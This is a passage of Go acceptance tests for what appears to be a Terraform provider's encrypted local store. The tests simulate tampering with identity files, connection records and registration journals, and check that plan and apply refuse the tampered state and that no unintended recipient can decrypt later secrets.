	if text, changes, err := a.cli.PlanChanges(t.Context()); err != nil || !changes {
		t.Errorf("the plan does not show the older record: %v\n%s", err, text)
	}
	a.apply(config)
	a.nobodyElseReads(former)
	if text, changes, err := a.cli.PlanChanges(t.Context()); err != nil || changes {
		t.Errorf("the plan after it is not empty: %v\n%s", err, text)
	}
}

func TestAccStore_AnIdentityThatIsGoneOrExchangedIsAnErrorForAStateThatKnowsTheStore(t *testing.T) {
	for _, name := range []string{"gone", "exchanged"} {
		t.Run(name, func(t *testing.T) {
			a := newAttack(t)
			a.apply(a.registration("") + a.connection(""))
			identity := filepath.Join(a.env.Store, "identity.age")
			for _, file := range []string{identity, filepath.Join(a.env.Store, "recipient.txt")} {
				if err := os.Remove(file); err != nil && !errors.Is(err, fs.ErrNotExist) {
					t.Fatal(err)
				}
			}
			planted := ""
			if name == "exchanged" { // by one that the same passphrase opens
				storetest.Make(t, a.env.Store, acctest.Passphrase)
				planted = read(t, identity)
			}
			keys := len(a.uploaded())
			if output, err := a.run("plan"); err == nil {
				t.Errorf("the plan passed:\n%s", output)
			}
			changed := a.registration("certificate = { validity_years = 4 }") +
				a.connection(`name = "changed"`+"\n"+shared(newIdentity(t)))
			if output, err := a.tryApply(changed); err == nil {
				t.Errorf("an apply with a change passed:\n%s", output)
			}
			if content, err := os.ReadFile(identity); err == nil && string(content) != planted {
				t.Error("a new identity was made in place of the one that the state knows")
			}
			if now := a.uploaded(); len(now) != keys {
				t.Errorf("the tenant has %d certificates, and had %d", len(now), keys)
			}
		})
	}
}

func TestAccTargetConnection_ARecordOfTheFormatOfBeforeMakesNobodyARecipientOfALaterSecret(t *testing.T) {
	t.Run("a second record", func(t *testing.T) {
		a := newAttack(t)
		a.apply(a.registration("") + a.connection(""))
		thumbprint := a.app().Keys[0].Thumbprint
		a.plant(plainForm.write(a, a.secondRecord(thumbprint)), "connections", "second@"+a.tenant.Domain+".json")
		friend := newIdentity(t)
		a.apply(a.registration("") + a.connection(shared(friend)))
		a.nobodyElseReads(a.writer)
		if names := readableTo(t, a.env.Store, friend); len(names) == 0 {
			t.Error("the recipient whom the plan showed can decrypt nothing")
		}
	})
	t.Run("the record itself", func(t *testing.T) {
		a := newAttack(t)
		config := a.registration("") + a.connection("")
		a.apply(config)
		record := recordIn(t, a.file("connections", a.mailbox()+".json"))
		record["handoff_recipients"] = []string{a.writer.Recipient().String()}
		a.plant(plainForm.write(a, record), "connections", a.mailbox()+".json")
		a.configureWithout(config)
		_, _ = a.run("apply", "-auto-approve")
		a.nobodyElseReads(a.writer)
		a.apply(config)
		a.nobodyElseReads(a.writer)
		if text, changes, err := a.cli.PlanChanges(t.Context()); err != nil || changes {
			t.Errorf("the plan after it is not empty: %v\n%s", err, text)
		}
	})
}

func TestAccTargetAppRegistration_AJournalOfTheFormatOfBeforeIsNotContinuedWithoutAState(t *testing.T) {
	a := newAttack(t)
	a.apply(a.registration(""))
	app := a.app()
	a.configure(a.registration(""))
	if err := os.Remove(filepath.Join(a.cli.Folder, "terraform.tfstate")); err != nil {
		t.Fatal(err)
	}
	journal := recordIn(t, a.file("registrations", attackedName+".json"))
	delete(journal, "completed_at")
	planted := a.plantPair(plainForm)
	journal["thumbprints"] = []string{planted}
	a.plant(plainForm.write(a, journal), "registrations", attackedName+".json")
	output, err := a.run("apply", "-auto-approve")
	if now := a.app(); !slices.Equal(now.Keys, app.Keys) {
		t.Errorf("the application had the keys %+v, and has %+v", app.Keys, now.Keys)
	}
	if err == nil || !strings.Contains(output, "import {") {
		t.Errorf("the apply does not refuse it with the import block: %v\n%s", err, output)
	}
}
